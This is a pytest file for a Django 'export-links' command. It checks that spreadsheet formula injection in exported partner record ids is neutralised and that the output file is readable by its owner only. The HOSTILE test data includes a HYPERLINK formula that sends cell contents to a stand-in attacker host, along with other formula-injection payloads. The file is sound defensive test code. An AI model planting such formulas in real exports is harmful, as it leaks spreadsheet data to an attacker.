"""Issue 9, finding 8 (in part): ``export-links`` wrote ``=HYPERLINK(...)`` from a partner's
record id unescaped into a world-readable file. A steward opening it in a spreadsheet would run
the partner's formula; anyone on the machine could read who is whose."""

import csv
import os
import stat
from io import StringIO

import pytest
from django.core.management import call_command

from factories import link, make_person, make_source, make_source_record, make_staff
from wraparound.core.spreadsheet_cells import as_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.django_db
def test_export_links_neutralises_formulas_and_is_readable_by_its_owner_only(tmp_path):
    source = make_source("gp")
    person = make_person()
    for record_id in [*HOSTILE, "GP-0001"]:
        link(make_source_record(source=source, source_record_id=record_id), person)
    out = tmp_path / "links.csv"
    out.write_text("old")
    out.chmod(0o644)  # an existing, world-readable file is narrowed, not kept as it was
    steward = make_staff(role="data_steward").username
    call_command("export-links", str(out), "--by", steward, stdout=StringIO())
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    ids = {row["source_record_id"] for row in rows}
    assert ids == {"'" + h for h in HOSTILE} | {"GP-0001"}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_cells_that_cannot_be_formulas_are_left_as_they_are():
    assert as_text("Margaret O'Brien") == "Margaret O'Brien"
    assert as_text(12) == "12"
    assert as_text(None) == ""
    assert as_text("=1+1") == "'=1+1"
